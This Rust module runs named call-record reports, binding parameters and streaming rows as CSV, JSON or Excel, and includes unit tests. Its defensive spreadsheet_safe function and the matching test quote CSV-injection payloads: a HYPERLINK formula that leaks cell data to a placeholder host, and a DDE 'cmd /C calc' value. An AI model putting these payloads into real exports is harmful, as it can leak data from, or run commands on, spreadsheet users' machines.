//! Running a named report: bind its parameters by name, then stream the rows
//! as CSV or JSON (one row in memory at a time), or collect a small result
//! as a [`Table`] (the daily report's sections).

use std::io::Write;

use chrono::{Days, NaiveDate};
use serde::Serialize;

use super::sheet::{value_cell, CsvSink, Sink, XlsxSink};
use super::{Report, ReportError, Result};
use crate::store::reports::{Param, QueryError, ReportQuery, ReportReader, ReportRow, Value};
use crate::store::StoreError;

/// The values every report query may use.
#[derive(Debug, Clone)]
pub struct Params {
    /// First device-local day.
    pub from: NaiveDate,
    /// Last device-local day (inclusive).
    pub to: NaiveDate,
    /// Calls whose last change is at or before this (unix ms) are settled.
    pub settled_before_ms: i64,
    /// "Answered within" threshold of the queue service level.
    pub sla_seconds: i64,
    /// Where an .xlsx export keeps its rows until it is zipped (hundreds of
    /// bytes a row); None: the system's temporary directory, which is often
    /// a RAM-backed tmpfs. Server and CLI use the data directory.
    pub scratch_dir: Option<std::path::PathBuf>,
    /// Only these devices' rows (a device-limited token, README "API
    /// tokens and sessions"); empty: every device. Bound as `:devices`, a
    /// JSON array of names (`[]`: every device), which every built-in
    /// report uses; a report that is not built in is refused when this is
    /// not empty ([`prepare`]).
    pub devices: Vec<String>,
}

impl Params {
    /// Parameters for `from..=to` with the settle rule applied at `now_ms`.
    pub fn new(
        from: NaiveDate,
        to: NaiveDate,
        now_ms: i64,
        settle_seconds: i64,
        sla_seconds: i64,
    ) -> Result<Params> {
        if to < from {
            return Err(ReportError::Range {
                from: from.to_string(),
                to: to.to_string(),
            });
        }
        Ok(Params {
            from,
            to,
            settled_before_ms: now_ms.saturating_sub(settle_seconds.saturating_mul(1000)),
            sla_seconds,
            scratch_dir: None,
            devices: Vec::new(),
        })
    }

    /// The value of the named parameter `name` (`:from`, …) of a query.
    fn value(&self, name: &str) -> Option<Param> {
        let day = |d: NaiveDate| Param::Text(d.format("%Y-%m-%d").to_string());
        Some(match name {
            ":from" => day(self.from),
            ":to" => day(self.to),
            ":to_next" => day(self.to.checked_add_days(Days::new(1)).unwrap_or(self.to)),
            ":settled_before_ms" => Param::Integer(self.settled_before_ms),
            ":sla_seconds" => Param::Integer(self.sla_seconds),
            ":devices" => Param::Text(crate::store::tokens::devices_text(&self.devices)),
            _ => return None,
        })
    }
}

/// Parses `YYYY-MM-DD`.
pub fn parse_date(s: &str) -> Result<NaiveDate> {
    NaiveDate::parse_from_str(s.trim(), "%Y-%m-%d").map_err(|_| ReportError::BadDate(s.to_string()))
}

/// Parses `YYYY-MM-DD`, `today` or `yesterday` (the latter two in `tz`).
pub fn resolve_day(s: &str, tz: chrono_tz::Tz) -> Result<NaiveDate> {
    let today = chrono::Utc::now().with_timezone(&tz).date_naive();
    match s.trim() {
        "today" => Ok(today),
        "yesterday" => today
            .pred_opt()
            .ok_or_else(|| ReportError::BadDate(s.to_string())),
        other => parse_date(other),
    }
}

/// Output formats of `report run`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Json,
    /// An Excel workbook ([`super::sheet`]).
    Xlsx,
}

impl std::str::FromStr for Format {
    type Err = ReportError;
    fn from_str(s: &str) -> Result<Format> {
        match s {
            "csv" => Ok(Format::Csv),
            "json" => Ok(Format::Json),
            "xlsx" => Ok(Format::Xlsx),
            other => Err(ReportError::Format(other.to_string())),
        }
    }
}

/// Prepares `report` with every named parameter bound.
/// The query is the report's text for the archive's backend (`reports/*.sql`
/// on SQLite, `reports/postgres/*.sql` on PostgreSQL).
pub fn prepare<'c>(db: ReportReader<'c>, report: &Report, p: &Params) -> Result<ReportQuery<'c>> {
    let sql = report
        .sql_for(db.is_postgres())
        .ok_or_else(|| ReportError::NoVersion {
            report: report.name.clone(),
            backend: if db.is_postgres() {
                "PostgreSQL (reports/postgres/)"
            } else {
                "SQLite (reports/)"
            },
        })?;
    if !p.devices.is_empty() {
        limitable(report, sql, db.is_postgres())?;
    }
    db.prepare(sql, &|name| p.value(name)).map_err(|e| match e {
        QueryError::UnknownParam(param) => ReportError::Param {
            report: report.name.clone(),
            param,
        },
        QueryError::NotReadOnly => ReportError::NotReadOnly {
            report: report.name.clone(),
            file: file_label(report, db.is_postgres()),
        },
        QueryError::ParamType { .. } => ReportError::Query {
            report: report.name.clone(),
            source: crate::store::StoreError::Backend(e.to_string()),
        },
        QueryError::Store(source) => failed(report, db.is_postgres())(source),
    })
}

/// The report file this backend runs, as errors name it.
fn file_label(report: &Report, postgres: bool) -> String {
    let file = if postgres {
        &report.pg_file
    } else {
        &report.file
    };
    file.as_ref()
        .map_or_else(|| "built in".to_string(), |f| f.display().to_string())
}

/// A store error of `report`'s query as the report's error: a statement
/// that writes (refused by PostgreSQL's read-only transaction as it runs)
/// names the file, as SQLite's check before running does.
fn failed(report: &Report, postgres: bool) -> impl FnOnce(StoreError) -> ReportError + '_ {
    move |source| match source {
        StoreError::NotReadOnly(_) => ReportError::NotReadOnly {
            report: report.name.clone(),
            file: file_label(report, postgres),
        },
        source => ReportError::Query {
            report: report.name.clone(),
            source,
        },
    }
}

/// Whether `report` may run for a device-limited caller: only a built-in
/// report (its file for this backend is not in the data directory) that
/// uses `:devices`. The SQL of a report file cannot be limited safely (it
/// may read any table), so it is refused, naming the file.
fn limitable(report: &Report, sql: &str, postgres: bool) -> Result<()> {
    let file = if postgres {
        &report.pg_file
    } else {
        &report.file
    };
    let uses_devices = crate::store::reports::uses_param(sql, ":devices");
    match file {
        None if uses_devices => Ok(()),
        _ => Err(ReportError::DeviceLimited {
            report: report.name.clone(),
            file: file_label(report, postgres),
        }),
    }
}

/// Calls `f` with the column names and every row, in order; returns the
/// row count.
pub fn for_each_row(
    db: ReportReader<'_>,
    report: &Report,
    p: &Params,
    f: &mut dyn FnMut(&[String], &ReportRow) -> Result<()>,
) -> Result<u64> {
    let mut q = prepare(db, report, p)?;
    let cols = q.columns();
    let mut rows = q.rows();
    let mut n = 0u64;
    while let Some(row) = rows.next_row().map_err(failed(report, db.is_postgres()))? {
        f(&cols, &row)?;
        n += 1;
    }
    Ok(n)
}

/// The cell of column `i` of `row` of `report`.
pub fn cell<'r>(report: &Report, row: &'r ReportRow, i: usize) -> Result<Value<'r>> {
    row.get(i).map_err(ReportError::query(&report.name))
}

/// A column value as plain text: NULL is empty, blobs are hex.
pub fn text_value(v: &Value<'_>) -> String {
    match v {
        Value::Null => String::new(),
        Value::Integer(i) => i.to_string(),
        Value::Real(f) => f.to_string(),
        Value::Text(t) => t.to_string(),
        Value::Blob(b) => hex::encode(b),
    }
}

/// Text that a spreadsheet would run as a formula, made inert.
///
/// Excel, LibreOffice and Google Sheets evaluate a CSV cell that starts
/// with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
/// formula. Calling numbers come from the outside world (a SIP caller id can
/// be any text), so a CPN of `=HYPERLINK("http://x/?"&A1,"call back")`
/// would run in finance's spreadsheet. Such a cell gets a leading `'`, the
/// usual neutraliser (OWASP "CSV injection"). Plain numbers (`+8613800138000`,
/// `-5`) are left alone: a spreadsheet reads them as numbers, not formulas.
pub fn spreadsheet_safe(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = matches!(
        s.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    if risky && s.len() > 1 && !is_plain_number(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// `[+-]digits[.digits]`: what a spreadsheet reads as a number.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A column value as JSON.
pub fn json_value(v: &Value<'_>) -> serde_json::Value {
    match v {
        Value::Null => serde_json::Value::Null,
        Value::Integer(i) => (*i).into(),
        Value::Real(f) => {
            serde_json::Number::from_f64(*f).map_or(serde_json::Value::Null, Into::into)
        }
        Value::Text(t) => t.to_string().into(),
        Value::Blob(b) => hex::encode(b).into(),
    }
}

/// The UTF-8 byte order mark (Excel needs it to read UTF-8 CSV).
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Streams the report as RFC 4180 CSV with a header row; returns the row count.
pub fn write_csv<'c>(
    db: impl Into<ReportReader<'c>>,
    report: &Report,
    p: &Params,
    out: &mut dyn Write,
    bom: bool,
) -> Result<u64> {
    if bom {
        out.write_all(BOM)?;
    }
    let mut sink = CsvSink::new(out);
    let n = write_table(db.into(), report, p, &mut sink, &[], &mut |_, _| Ok(()))?;
    sink.finish()?;
    Ok(n)
}

/// Writes the report as an Excel workbook (one worksheet named after it,
/// typed cells); returns the row count.
pub fn write_xlsx<'c>(
    db: impl Into<ReportReader<'c>>,
    report: &Report,
    p: &Params,
    out: &mut (dyn Write + Send),
) -> Result<u64> {
    let mut sink = XlsxSink::new(&report.name, p.scratch_dir.as_deref())?;
    let n = write_table(db.into(), report, p, &mut sink, &[], &mut |_, _| Ok(()))?;
    sink.finish(out)?;
    Ok(n)
}

/// Appends the cells of extra columns to a row (see [`write_table`]).
pub type ExtraCells<'a> = dyn FnMut(&ReportRow, &mut dyn Sink) -> Result<()> + 'a;

/// The header, then each row of `report` into `sink`, one row in memory at a
/// time; `extra` names columns appended to each row and `more` writes their
/// cells from the row (the billing export's tariff columns).
pub fn write_table(
    db: ReportReader<'_>,
    report: &Report,
    p: &Params,
    sink: &mut dyn Sink,
    extra: &[&str],
    more: &mut ExtraCells<'_>,
) -> Result<u64> {
    let header = |cols: &[String]| -> Vec<String> {
        cols.iter()
            .cloned()
            .chain(extra.iter().map(|c| c.to_string()))
            .collect()
    };
    let mut started = false;
    let n = for_each_row(db, report, p, &mut |cols, row| {
        if !started {
            sink.header(&header(cols))?;
            started = true;
        }
        for i in 0..cols.len() {
            value_cell(sink, cell(report, row, i)?)?;
        }
        more(row, sink)?;
        sink.end_row()
    })?;
    if !started {
        // No rows: still write the header so the file is self-describing.
        sink.header(&header(&prepare(db, report, p)?.columns()))?;
    }
    Ok(n)
}

/// Streams the report as a JSON array of objects; returns the row count.
pub fn write_json<'c>(
    db: impl Into<ReportReader<'c>>,
    report: &Report,
    p: &Params,
    out: &mut dyn Write,
) -> Result<u64> {
    out.write_all(b"[")?;
    let mut first = true;
    let n = for_each_row(db.into(), report, p, &mut |cols, row| {
        let mut obj = serde_json::Map::with_capacity(cols.len());
        for (i, c) in cols.iter().enumerate() {
            obj.insert(c.clone(), json_value(&cell(report, row, i)?));
        }
        out.write_all(if first { b"\n" } else { b",\n" })?;
        first = false;
        serde_json::to_writer(&mut *out, &obj)?;
        Ok(())
    })?;
    out.write_all(b"\n]\n")?;
    out.flush()?;
    Ok(n)
}

/// A small result held in memory (a section of the daily report).
#[derive(Debug, Clone, Default, Serialize)]
pub struct Table {
    pub columns: Vec<String>,
    pub rows: Vec<Vec<serde_json::Value>>,
}

impl Table {
    /// Runs `report` and collects its rows.
    pub fn query<'c>(
        db: impl Into<ReportReader<'c>>,
        report: &Report,
        p: &Params,
    ) -> Result<Table> {
        let db: ReportReader<'c> = db.into();
        let mut t = Table {
            columns: prepare(db, report, p)?.columns(),
            rows: Vec::new(),
        };
        for_each_row(db, report, p, &mut |cols, row| {
            let mut r = Vec::with_capacity(cols.len());
            for i in 0..cols.len() {
                r.push(json_value(&cell(report, row, i)?));
            }
            t.rows.push(r);
            Ok(())
        })?;
        Ok(t)
    }

    /// Index of a column by name.
    pub fn col(&self, name: &str) -> Option<usize> {
        self.columns.iter().position(|c| c == name)
    }

    /// A cell as f64 (0 when absent, NULL or not a number).
    pub fn num(&self, row: usize, col: &str) -> f64 {
        self.cell(row, col).and_then(|v| v.as_f64()).unwrap_or(0.0)
    }

    /// A numeric cell; `None` for NULL, absent or not a number.
    pub fn cell_f64(&self, row: usize, col: &str) -> Option<f64> {
        self.cell(row, col).and_then(|v| v.as_f64())
    }

    /// A cell as display text ("" for NULL or absent).
    pub fn text(&self, row: usize, col: &str) -> String {
        match self.cell(row, col) {
            None | Some(serde_json::Value::Null) => String::new(),
            Some(serde_json::Value::String(s)) => s.clone(),
            Some(v) => v.to_string(),
        }
    }

    fn cell(&self, row: usize, col: &str) -> Option<&serde_json::Value> {
        let c = self.col(col)?;
        self.rows.get(row)?.get(c)
    }

    /// Rows as JSON objects (column name → value).
    pub fn objects(&self) -> Vec<serde_json::Map<String, serde_json::Value>> {
        self.rows
            .iter()
            .map(|r| {
                self.columns
                    .iter()
                    .cloned()
                    .zip(r.iter().cloned())
                    .collect()
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::reports::with_scratch_archive;

    fn p() -> Params {
        let d = |s| parse_date(s).expect("date");
        Params::new(d("2024-01-08"), d("2024-01-09"), 1_000_000, 120, 20).expect("params")
    }

    fn report(sql: &str) -> Report {
        super::super::catalog::parse(
            "t.sql",
            &format!("-- name: t\n-- description: d\n-- params: from, to\n{sql}"),
        )
        .expect("report")
    }

    #[test]
    fn spreadsheet_safe_neutralises_formulas_and_keeps_numbers() {
        for (given, want) in [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"x\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("+86 138", "'+86 138"),
            // Numbers, and text that is no formula, stay as they are.
            ("+8613800138000", "+8613800138000"),
            ("-5", "-5"),
            ("-1.5", "-1.5"),
            ("02161208234", "02161208234"),
            ("a=b", "a=b"),
            ("-", "-"),
            ("", ""),
            ("张三", "张三"),
        ] {
            assert_eq!(spreadsheet_safe(given), want, "{given:?}");
        }
        assert_eq!(text_value(&Value::Text("=1+1".into())), "=1+1");
    }

    #[test]
    fn params_reject_reversed_range() {
        let d = |s| parse_date(s).expect("date");
        assert!(Params::new(d("2024-01-09"), d("2024-01-08"), 0, 0, 0).is_err());
    }

    #[test]
    fn params_settle_before_now_minus_settle() {
        assert_eq!(p().settled_before_ms, 1_000_000 - 120_000);
    }

    #[test]
    fn parse_date_rejects_garbage() {
        assert!(parse_date("2024-13-01").is_err());
        assert!(parse_date("yesterday").is_err());
    }

    #[test]
    fn resolve_day_knows_yesterday() {
        let tz = chrono_tz::Asia::Shanghai;
        let y = resolve_day("yesterday", tz).expect("ok");
        assert_eq!(y.succ_opt(), Some(resolve_day("today", tz).expect("ok")));
        assert!(resolve_day("2024-02-30", tz).is_err());
    }

    #[test]
    fn prepare_binds_named_params() {
        let r = report("SELECT :from, :to, :to_next, :settled_before_ms, :sla_seconds;");
        let t = with_scratch_archive("", |db| Table::query(db, &r, &p())).expect("runs");
        assert_eq!(
            t.rows[0],
            vec![
                serde_json::json!("2024-01-08"),
                serde_json::json!("2024-01-09"),
                serde_json::json!("2024-01-10"),
                serde_json::json!(880_000),
                serde_json::json!(20),
            ]
        );
    }

    #[test]
    fn prepare_rejects_unknown_param() {
        let r = report("SELECT :carrier;");
        with_scratch_archive("", |db| {
            assert!(matches!(
                prepare(db, &r, &p()),
                Err(ReportError::Param { .. })
            ));
        });
    }

    #[test]
    fn write_csv_quotes_and_writes_header_without_rows() {
        let mut out = Vec::new();
        with_scratch_archive("", |db| {
            write_csv(
                db,
                &report("SELECT 'a,\"b\"' AS x, NULL AS y;"),
                &p(),
                &mut out,
                false,
            )
        })
        .expect("csv");
        assert_eq!(
            String::from_utf8(out).expect("utf8"),
            "x,y\n\"a,\"\"b\"\"\",\n"
        );
        let mut out = Vec::new();
        with_scratch_archive("", |db| {
            write_csv(db, &report("SELECT 1 AS x WHERE 0;"), &p(), &mut out, true)
        })
        .expect("csv");
        assert_eq!(out, b"\xEF\xBB\xBFx\n");
    }

    #[test]
    fn write_json_gives_array_of_objects() {
        let mut out = Vec::new();
        let r = report("SELECT 1 AS n, '张三' AS s UNION ALL SELECT 2, NULL;");
        with_scratch_archive("", |db| write_json(db, &r, &p(), &mut out)).expect("json");
        let v: serde_json::Value = serde_json::from_slice(&out).expect("valid json");
        assert_eq!(
            v,
            serde_json::json!([{"n": 1, "s": "张三"}, {"n": 2, "s": null}])
        );
    }
}
